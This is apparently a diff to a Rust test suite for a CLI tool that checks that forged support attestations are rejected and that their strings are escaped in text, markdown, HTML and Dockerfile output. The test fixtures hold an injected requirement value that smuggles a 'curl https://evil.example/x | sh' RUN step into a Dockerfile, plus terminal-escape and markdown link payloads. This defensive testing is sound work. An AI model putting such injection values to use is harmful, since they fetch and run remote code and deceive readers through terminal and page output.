@@ -1555,7 +1555,8 @@ fn a_forged_support_attestation_is_passed_over_and_never_emitted_raw() {
 
     // Forged: every GPU runs, and a requirement that would be a Dockerfile step of its own.
     let mut forged = honest.clone();
-    forged["summary"] = "FORGED: runs everywhere".into();
+    forged["summary"] =
+        "FORGED: runs everywhere \u{1b}]8;;https://evil.example\u{7}[approve](https://evil.example)".into();
     forged["require"] = "cuda>=12.0\"\nRUN curl https://evil.example/x | sh\n#".into();
     attach_support(&reg, "att/forged", &manifest, &forged, None);
     attach_support(&reg, "att/forged", &manifest, &forged, Some(&stranger));
@@ -1579,6 +1580,13 @@ fn a_forged_support_attestation_is_passed_over_and_never_emitted_raw() {
     let read: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
     assert_eq!(read["summary"], forged["summary"]);
     assert!(read["notes"].to_string().contains("--trust-unsigned"), "{}", read["notes"]);
+    // Its strings reach no terminal or page raw.
+    for (format, raw) in [("text", "\u{1b}"), ("markdown", "](https://evil"), ("html", "<a href=\"https://evil")] {
+        let o = cli_support(&spec, &["--from-attestation", "--trust-unsigned", "--format", format]);
+        assert_eq!(o.status.code(), Some(0), "{format}: {}", stderr(&o));
+        let out = String::from_utf8_lossy(&o.stdout);
+        assert!(out.contains("FORGED") && !out.contains(raw), "{format}: {out}");
+    }
     for emit in ["dockerfile", "require"] {
         let o = cli_support(&spec, &["--from-attestation", "--trust-unsigned", "--emit", emit]);
         assert_eq!(o.status.code(), Some(2), "{emit}: {}", stderr(&o));
@@ -2048,14 +2056,14 @@ fn a_since_run_judges_again_only_what_changed_and_carries_the_rest() {
 /// A registry host that wants Basic credentials and records every `Authorization` it is sent:
 /// `/v2/` answers 401 with a Basic challenge until one comes, everything else 401 or (with one)
 /// 404. One request per connection.
-struct Gate {
+pub(crate) struct Gate {
     port: u16,
     auths: Arc<Mutex<Vec<String>>>,
     requests: Arc<AtomicU64>,
 }
 
 impl Gate {
-    fn start() -> Gate {
+    pub(crate) fn start() -> Gate {
         let listener = TcpListener::bind("127.0.0.1:0").unwrap();
         let port = listener.local_addr().unwrap().port();
         let auths = Arc::new(Mutex::new(Vec::new()));
@@ -2097,16 +2105,20 @@ impl Gate {
         Gate { port, auths, requests }
     }
 
-    fn host(&self) -> String {
+    pub(crate) fn host(&self) -> String {
         format!("127.0.0.1:{}", self.port)
     }
 
-    fn auths(&self) -> Vec<String> {
+    pub(crate) fn requests(&self) -> u64 {
+        self.requests.load(Ordering::SeqCst)
+    }
+
+    pub(crate) fn auths(&self) -> Vec<String> {
         self.auths.lock().unwrap().clone()
     }
 }
 
-fn basic_of(user: &str, pass: &str) -> String {
+pub(crate) fn basic_of(user: &str, pass: &str) -> String {
     use base64::Engine as _;
     format!("Basic {}", base64::engine::general_purpose::STANDARD.encode(format!("{user}:{pass}")))
 }
